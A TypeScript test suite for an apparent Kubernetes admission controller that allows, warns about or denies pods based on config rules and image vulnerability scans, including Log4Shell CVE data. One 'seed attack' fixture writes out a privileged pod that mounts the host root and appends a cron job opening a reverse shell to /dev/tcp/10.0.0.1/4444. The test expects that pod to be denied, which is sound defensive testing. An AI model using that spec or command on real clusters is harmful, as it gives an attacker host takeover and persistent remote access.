import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ConfigFinding } from '../../core/config-finding.ts';
import { testConfigEvaluator } from '../../test-support/test-config-evaluator.ts';
import type { AdmissionReviewResponse } from './admission-answer.ts';
import { type AdmissionPolicy, DEFAULT_ADMISSION_POLICY } from './admission-policy.ts';
import type { ImageVulnState } from './image-vuln-state.ts';
import {
  type AdmissionDeps,
  MAX_CONTAINERS_PER_OBJECT,
  MAX_IMAGES_PER_OBJECT,
  reviewAdmission,
} from './review-admission.ts';

const NOW = new Date('2025-06-01T12:00:00Z');

const LOG4SHELL: ImageVulnState = {
  scanned: true,
  reference: 'registry.example/app:1.0',
  scannedAt: '2025-05-30T00:00:00Z',
  findings: [
    {
      id: 'CVE-2021-44228',
      severity: 'CRITICAL',
      kev: true,
      fixed: true,
      fixedVersions: ['2.15.0'],
      packageName: 'log4j-core',
      packageVersion: '2.14.1',
    },
    {
      id: 'CVE-2021-45046',
      severity: 'CRITICAL',
      kev: false,
      fixed: true,
      fixedVersions: ['2.16.0'],
      packageName: 'log4j-core',
      packageVersion: '2.14.1',
    },
  ],
};
const CLEAN: ImageVulnState = {
  scanned: true,
  reference: 'x',
  scannedAt: '2025-05-30T00:00:00Z',
  findings: [],
};

/** Known images; anything else has no saved scan. Records every lookup. */
function states(known: Record<string, ImageVulnState>) {
  const asked: string[] = [];
  const imageState = async (image: string): Promise<ImageVulnState> => {
    asked.push(image);
    return known[image] ?? { scanned: false, reason: 'no saved scan' };
  };
  return { asked, imageState };
}

function deps(policy: Partial<AdmissionPolicy> = {}, known: Record<string, ImageVulnState> = {}) {
  const s = states(known);
  const d: AdmissionDeps = {
    evaluate: testConfigEvaluator,
    imageState: s.imageState,
    policy: { ...DEFAULT_ADMISSION_POLICY, ...policy },
    now: () => NOW,
  };
  return { deps: d, asked: s.asked };
}

function pod(
  spec: Record<string, unknown>,
  metadata: Record<string, unknown> = { name: 'web', namespace: 'default' },
) {
  return { apiVersion: 'v1', kind: 'Pod', metadata, spec };
}

function review(object: unknown, request: Record<string, unknown> = {}) {
  return {
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: {
      uid: '705ab4f5-6393-11e8-b7cc-42010a800002',
      kind: { group: '', version: 'v1', kind: 'Pod' },
      operation: 'CREATE',
      namespace: 'default',
      object,
      ...request,
    },
  };
}

function answered(r: AdmissionReviewResponse) {
  assert.ok(r.ok, r.ok ? '' : r.error);
  return r;
}

const CLEAN_SPEC = { containers: [{ name: 'app', image: 'registry.example/clean:1' }] };

describe('reviewAdmission: the shape of the review', () => {
  const bad: [string, unknown, RegExp][] = [
    ['not an object', 'hello', /not an AdmissionReview: expected a JSON object/],
    ['an array', [], /expected a JSON object/],
    [
      'v1beta1',
      { ...review(pod(CLEAN_SPEC)), apiVersion: 'admission.k8s.io/v1beta1' },
      /apiVersion must be admission\.k8s\.io\/v1, not "admission\.k8s\.io\/v1beta1"/,
    ],
    ['another kind', { ...review(pod(CLEAN_SPEC)), kind: 'Pod' }, /kind must be AdmissionReview/],
    ['no request', { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview' }, /request is missing/],
    ['no uid', review(pod(CLEAN_SPEC), { uid: undefined }), /request\.uid is missing/],
    ['a numeric uid', review(pod(CLEAN_SPEC), { uid: 7 }), /request\.uid is missing or not a string/],
    ['no object on CREATE', review(undefined), /request\.object is missing: CREATE requests must carry/],
    [
      'a null object on UPDATE',
      review(null, { operation: 'UPDATE' }),
      /request\.object is missing: UPDATE requests/,
    ],
    ['an array object', review([1]), /request\.object is not a JSON object/],
    ['no kind anywhere', review({ spec: {} }, { kind: undefined }), /request\.kind\.kind is missing/],
  ];
  for (const [name, input, message] of bad) {
    it(`refuses ${name}`, async () => {
      const r = await reviewAdmission(input, deps().deps);
      assert.equal(r.ok, false);
      if (!r.ok) assert.match(r.error, message);
    });
  }

  it('a DELETE carries no object: allowed without checks', async () => {
    const { deps: d, asked } = deps();
    const r = answered(await reviewAdmission(review(null, { operation: 'DELETE' }), d));
    assert.deepEqual(r.review, {
      apiVersion: 'admission.k8s.io/v1',
      kind: 'AdmissionReview',
      response: { uid: '705ab4f5-6393-11e8-b7cc-42010a800002', allowed: true },
    });
    assert.equal(r.decision.skipped, 'DELETE operation carries no object');
    assert.deepEqual(asked, []);
  });

  it('fills kind and apiVersion from request.kind when the object lacks them', async () => {
    const seen: Record<string, unknown>[] = [];
    const d = deps().deps;
    const r = answered(
      await reviewAdmission(
        review(
          {
            metadata: { generateName: 'web-' },
            spec: { template: { spec: { containers: [{ name: 'a', image: 'i:1' }] } } },
          },
          { kind: { group: 'apps', version: 'v1', kind: 'Deployment' } },
        ),
        {
          ...d,
          evaluate: (o) => {
            seen.push({ ...o });
            return [];
          },
        },
      ),
    );
    assert.equal(seen[0]?.kind, 'Deployment');
    assert.equal(seen[0]?.apiVersion, 'apps/v1');
    assert.equal(r.decision.name, 'web-*');
    assert.deepEqual(r.decision.images, ['i:1']);
  });
});

describe('reviewAdmission: decisions', () => {
  it("the seed attack: a privileged pod mounting the host's / is denied, naming each rule and its fix", async () => {
    const attack = pod({
      containers: [
        {
          name: 'pwn',
          image: 'registry.example/clean:1',
          command: [
            'sh',
            '-c',
            'echo "* * * * * root sh -i >& /dev/tcp/10.0.0.1/4444 0>&1" >> /host/etc/crontab',
          ],
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'host', mountPath: '/host' }],
        },
      ],
      volumes: [{ name: 'host', hostPath: { path: '/' } }],
    });
    const r = answered(
      await reviewAdmission(review(attack), deps({}, { 'registry.example/clean:1': CLEAN }).deps),
    );
    const res = r.review.response;
    assert.equal(res.allowed, false);
    assert.equal(res.status?.code, 403);
    assert.equal(res.status?.reason, 'Forbidden');
    assert.equal(
      res.status?.message,
      [
        'Bulwark denied Pod default/web: 2 failed checks',
        '- TEST-HOSTPATH CRITICAL volume "host" mounts the host path /. Fix: use an emptyDir, configMap or persistentVolumeClaim instead of hostPath',
        '- TEST-PRIVILEGED HIGH container "pwn" is privileged. Fix: set securityContext.privileged to false',
      ].join('\n'),
    );
    assert.deepEqual(res.auditAnnotations, {
      decision: 'deny',
      mode: 'enforce',
      violations: 'TEST-HOSTPATH,TEST-PRIVILEGED',
    });
    assert.equal(r.decision.verdict, 'deny');
    assert.equal(r.decision.decidedAt, NOW.toISOString());
    assert.deepEqual(
      r.decision.violations.map((v) => v.path),
      ['spec.volumes[0].hostPath.path', 'spec.containers[0].securityContext.privileged'],
    );
  });

  it('a clean, scanned pod is allowed with nothing else in the response', async () => {
    const r = answered(
      await reviewAdmission(review(pod(CLEAN_SPEC)), deps({}, { 'registry.example/clean:1': CLEAN }).deps),
    );
    assert.deepEqual(r.review.response, { uid: '705ab4f5-6393-11e8-b7cc-42010a800002', allowed: true });
    assert.equal(r.decision.verdict, 'allow');
  });

  it('config findings below the policy severity do not count; at MEDIUM they do', async () => {
    const obj = pod({
      containers: [
        { name: 'a', image: 'registry.example/clean:1', securityContext: { allowPrivilegeEscalation: true } },
      ],
    });
    const known = { 'registry.example/clean:1': CLEAN };
    const high = answered(await reviewAdmission(review(obj), deps({}, known).deps));
    assert.equal(high.review.response.allowed, true);
    const medium = answered(
      await reviewAdmission(review(obj), deps({ configSeverity: 'MEDIUM' }, known).deps),
    );
    assert.equal(medium.review.response.allowed, false);
    assert.match(medium.review.response.status!.message, /TEST-PRIVESC MEDIUM/);
    const off = { ...DEFAULT_ADMISSION_POLICY };
    delete (off as { configSeverity?: unknown }).configSeverity;
    const r = answered(
      await reviewAdmission(review(pod({ ...CLEAN_SPEC, hostPID: true })), {
        ...deps({}, known).deps,
        policy: off,
      }),
    );
    assert.equal(r.review.response.allowed, true);
  });

  it('suppressed config findings are ignored', async () => {
    const finding: ConfigFinding = {
      ruleId: 'TEST-X',
      messageId: 'x',
      severity: 'CRITICAL',
      title: 'x',
      message: 'x',
      remediation: 'x',
      references: [],
      resource: { kind: 'Pod' },
      location: { file: '<admission>' },
      suppressed: {
        kind: 'ignore',
        status: 'ignored',
        reason: 'accepted risk',
        source: 'bulwark.dev/ignore',
      },
    };
    const d = deps({}, { 'registry.example/clean:1': CLEAN }).deps;
    const r = answered(await reviewAdmission(review(pod(CLEAN_SPEC)), { ...d, evaluate: () => [finding] }));
    assert.equal(r.review.response.allowed, true);
  });

  it('an image with a KEV finding is denied, with the upgrade that fixes it', async () => {
    const obj = pod({ containers: [{ name: 'app', image: 'registry.example/app:1.0' }] });
    const r = answered(
      await reviewAdmission(review(obj), deps({}, { 'registry.example/app:1.0': LOG4SHELL }).deps),
    );
    const m = r.review.response.status?.message ?? '';
    assert.equal(r.review.response.allowed, false);
    assert.match(
      m,
      /- BW-ADM-001 CRITICAL image registry\.example\/app:1\.0: 1 known exploited: CVE-2021-44228 in log4j-core 2\.14\.1\. Fix: upgrade log4j-core to 2\.15\.0, then rebuild and rescan the image/,
    );
    // The KEV finding is not reported again as fixable CRITICAL.
    assert.match(
      m,
      /- BW-ADM-002 CRITICAL image registry\.example\/app:1\.0: 1 CRITICAL\+ with a fix: CVE-2021-45046 in log4j-core 2\.14\.1\. Fix: upgrade log4j-core to 2\.16\.0/,
    );
  });

  it('KEV and fixable checks can be turned off', async () => {
    const obj = pod({ containers: [{ name: 'app', image: 'registry.example/app:1.0' }] });
    const off = { ...DEFAULT_ADMISSION_POLICY, denyKev: false };
    delete (off as { fixableSeverity?: unknown }).fixableSeverity;
    const r = answered(
      await reviewAdmission(review(obj), {
        ...deps({}, { 'registry.example/app:1.0': LOG4SHELL }).deps,
        policy: off,
      }),
    );
    assert.equal(r.review.response.allowed, true);
  });

  for (const [unscanned, allowed, warnings] of [
    ['allow', true, 0],
    ['warn', true, 1],
    ['deny', false, 0],
  ] as const) {
    it(`an unscanned image with unscanned: ${unscanned}`, async () => {
      const r = answered(
        await reviewAdmission(
          review(pod({ containers: [{ name: 'a', image: 'nginx:1.25' }] })),
          deps({ unscanned }).deps,
        ),
      );
      const res = r.review.response;
      assert.equal(res.allowed, allowed);
      assert.equal(res.warnings?.length ?? 0, warnings);
      if (warnings) {
        assert.equal(
          res.warnings?.[0],
          'Bulwark: BW-ADM-003 UNKNOWN image nginx:1.25: no saved scan. Fix: scan it with "bulwark image nginx:1.25 --save" before deploying',
        );
      }
      if (!allowed) assert.match(res.status!.message, /BW-ADM-003 UNKNOWN image nginx:1\.25: no saved scan/);
    });
  }

  it('warn mode admits with every violation as a warning', async () => {
    const obj = pod({
      containers: [{ name: 'a', image: 'nginx:1.25', securityContext: { privileged: true } }],
    });
    const r = answered(await reviewAdmission(review(obj), deps({ mode: 'warn' }).deps));
    assert.equal(r.review.response.allowed, true);
    assert.equal(r.review.response.status, undefined);
    assert.deepEqual(
      r.review.response.warnings?.map((w) => w.split(' ')[1]),
      ['TEST-PRIVILEGED', 'BW-ADM-003'],
    );
    assert.equal(r.decision.verdict, 'deny');
    assert.equal(r.decision.allowed, true);
  });

  it('audit mode admits silently; the decision and audit annotations record what would be denied', async () => {
    const obj = pod({
      containers: [{ name: 'a', image: 'nginx:1.25', securityContext: { privileged: true } }],
    });
    const r = answered(await reviewAdmission(review(obj), deps({ mode: 'audit' }).deps));
    assert.equal(r.review.response.allowed, true);
    assert.equal(r.review.response.warnings, undefined);
    assert.deepEqual(r.review.response.auditAnnotations, {
      decision: 'deny',
      mode: 'audit',
      violations: 'TEST-PRIVILEGED,BW-ADM-003',
    });
    assert.equal(r.decision.verdict, 'deny');
    assert.equal(r.decision.violations.length, 2);
  });

  it('exempt namespaces (kube-system by default, globs) are admitted without checks', async () => {
    const bad = pod({
      hostNetwork: true,
      containers: [{ name: 'a', image: 'nginx', securityContext: { privileged: true } }],
    });
    for (const [ns, policy] of [
      ['kube-system', {}],
      ['monitoring-eu', { exemptNamespaces: ['monitoring-*'] }],
    ] as const) {
      const { deps: d, asked } = deps(policy);
      const r = answered(await reviewAdmission(review(bad, { namespace: ns }), d));
      assert.equal(r.review.response.allowed, true, ns);
      assert.equal(r.decision.skipped, `namespace ${ns} is exempt`);
      assert.deepEqual(asked, []);
    }
    const r = answered(
      await reviewAdmission(review(bad, { namespace: 'kube-system' }), deps({ exemptNamespaces: [] }).deps),
    );
    assert.equal(r.review.response.allowed, false);
  });

  it("exempt images: not looked up, their containers' findings dropped; all exempt → object exempt", async () => {
    const obj = pod({
      containers: [
        { name: 'proxy', image: 'registry.k8s.io/kube-proxy:v1.30.0', securityContext: { privileged: true } },
        { name: 'app', image: 'nginx:1.25', securityContext: { privileged: true } },
      ],
    });
    const { deps: d, asked } = deps({ exemptImages: ['registry.k8s.io/*'], unscanned: 'deny' });
    const r = answered(await reviewAdmission(review(obj), d));
    assert.deepEqual(asked, ['nginx:1.25']);
    assert.deepEqual(
      r.decision.violations.map((v) => `${v.ruleId} ${v.path ?? v.image}`),
      ['TEST-PRIVILEGED spec.containers[1].securityContext.privileged', 'BW-ADM-003 nginx:1.25'],
    );
    // Patterns may be written for the normalised form of a Docker Hub image.
    const all = answered(
      await reviewAdmission(
        review(obj),
        deps({ exemptImages: ['registry.k8s.io/', 'docker.io/library/nginx:*'] }).deps,
      ),
    );
    assert.equal(all.review.response.allowed, true);
    assert.equal(all.decision.skipped, 'every image is exempt');
  });

  it('an object with too many images is denied after checking the first 64', async () => {
    const containers = Array.from({ length: 100 }, (_, i) => ({ name: `c${i}`, image: `img-${i}:1` }));
    const { deps: d, asked } = deps({ unscanned: 'allow' });
    const r = answered(await reviewAdmission(review(pod({ containers })), d));
    assert.equal(asked.length, MAX_IMAGES_PER_OBJECT);
    assert.equal(r.review.response.allowed, false);
    assert.match(
      r.review.response.status!.message,
      /BW-ADM-004 HIGH 100 distinct images; only 64 are checked/,
    );
  });

  it('an object with too many containers is denied without running the rules', async () => {
    const containers = Array.from({ length: MAX_CONTAINERS_PER_OBJECT + 1 }, (_, i) => ({
      name: `c${i}`,
      image: 'nginx:1.25',
      securityContext: { privileged: true },
    }));
    let evaluated = 0;
    const d = deps({ unscanned: 'allow' }).deps;
    const r = answered(
      await reviewAdmission(review(pod({ containers })), {
        ...d,
        evaluate: (o) => {
          evaluated++;
          return testConfigEvaluator(o);
        },
      }),
    );
    assert.equal(evaluated, 0);
    assert.equal(r.review.response.allowed, false);
    assert.deepEqual(
      r.decision.violations.map((v) => v.message),
      [
        `${MAX_CONTAINERS_PER_OBJECT + 1} containers; the rules check at most ${MAX_CONTAINERS_PER_OBJECT} per object`,
      ],
    );
  });

  it('each image is looked up once however many containers use it', async () => {
    const containers = Array.from({ length: 5 }, (_, i) => ({ name: `c${i}`, image: 'nginx:1.25' }));
    const { deps: d, asked } = deps({ unscanned: 'allow' });
    answered(
      await reviewAdmission(
        review(pod({ containers, initContainers: [{ name: 'i', image: 'nginx:1.25' }] })),
        d,
      ),
    );
    assert.deepEqual(asked, ['nginx:1.25']);
  });

  it('many failures make a message under 1 KB with +N more', async () => {
    const containers = Array.from({ length: 40 }, (_, i) => ({
      name: `c${i}`,
      image: 'nginx:1.25',
      securityContext: { privileged: true },
    }));
    const r = answered(await reviewAdmission(review(pod({ containers })), deps({ unscanned: 'allow' }).deps));
    const m = r.review.response.status!.message;
    assert.ok(Buffer.byteLength(m) <= 1000);
    assert.match(m, /^Bulwark denied Pod default\/web: 40 failed checks\n/);
    assert.match(m, /\n\+\d+ more/);
  });

  it('a failing image lookup rejects the review (the server answers 500)', async () => {
    const d = deps().deps;
    await assert.rejects(
      reviewAdmission(review(pod(CLEAN_SPEC)), {
        ...d,
        imageState: async () => {
          throw new Error('database is locked');
        },
      }),
      /database is locked/,
    );
  });
});
